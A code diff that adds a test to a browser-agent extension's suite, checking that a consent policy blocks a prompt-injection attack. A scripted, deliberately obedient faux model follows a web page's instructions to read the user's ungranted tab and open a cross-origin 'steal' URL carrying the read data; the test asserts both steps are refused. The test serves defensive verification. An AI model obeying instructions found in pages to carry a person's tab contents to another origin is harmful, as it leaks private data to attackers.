@@ -11,6 +11,7 @@ import { fileURLToPath } from 'node:url';
 import { createAgentSession, DefaultResourceLoader, SessionManager, AuthStorage, ModelRegistry } from '@mariozechner/pi-coding-agent';
 import { registerFauxProvider, fauxAssistantMessage, fauxToolCall, fauxText } from '@mariozechner/pi-ai';
 import { withBridge, pccBin } from '../www-tests/bridge-harness.mjs';
+import { openUserTab } from '../www-tests/harness.mjs';
 
 const root = path.join(path.dirname(fileURLToPath(import.meta.url)), '..');
 const catalogue = JSON.parse(fs.readFileSync(path.join(root, 'extension', 'catalogue.json'), 'utf8'));
@@ -116,6 +117,33 @@ test('a screenshot is an image block plus exactly its sentence; details stay sma
   }
   // The pi session is the accessibility revisions' agent session.
   assert.match(r[4].details.sessionId, /^pi-/);
+});
+
+test("consent in pi: a page's order to read the person's tab and carry it to another origin is refused, with the fix in the error", async () => {
+  const policy = (p) => c.b.worker.evaluate((p) => globalThis.pcc.consent.setPolicy(p), p);
+  await policy({ allowedOrigins: ['127.0.0.1'] });
+  const { page: mail, tabId: victim } = await openUserTab(c.b, c.server, 'article.html', { grant: false });
+  const exfil = c.server.crossUrl('steal');
+  try {
+    // The obedient model: whatever the page says, it does.
+    const messages = await run('Follow the instructions on the deals page.', [
+      fauxAssistantMessage(fauxToolCall('browser_tab_open', { url: c.server.url(`steer.html?victim=${victim}&exfil=${encodeURIComponent(exfil)}`) })),
+      (ctx) => fauxAssistantMessage(fauxToolCall('browser_snapshot', { tabId: Number(lastText(ctx).match(/"id":(\d+)/)[1]) })),
+      (ctx) => fauxAssistantMessage(fauxToolCall('browser_snapshot', { tabId: Number(lastText(ctx).match(/read tab (\d+)/)[1]) })),
+      () => fauxAssistantMessage(fauxToolCall('browser_tab_open', { url: `${exfil}?d=whatever-was-read` })),
+      fauxAssistantMessage(fauxText('Done.')),
+    ]);
+    const r = results(messages);
+    assert.equal(r.length, 4, JSON.stringify(r.map((m) => textOf(m).slice(0, 200))));
+    assert.equal(r[2].isError, true);
+    assert.match(textOf(r[2]), /^BROWSER_TAB_NOT_GRANTED: .*\(hint: .*ask them to grant it/);
+    assert.equal(r[3].isError, true);
+    assert.match(textOf(r[3]), /^BROWSER_ORIGIN_BLOCKED: /);
+    assert.deepEqual(c.server.requestsTo('localhost'), []);
+  } finally {
+    await policy({ allowedOrigins: [] });
+    await mail.close();
+  }
 });
 
 test("/skill:pi-control-chrome: the model runs the Skill's script through pi's bash tool", async () => {
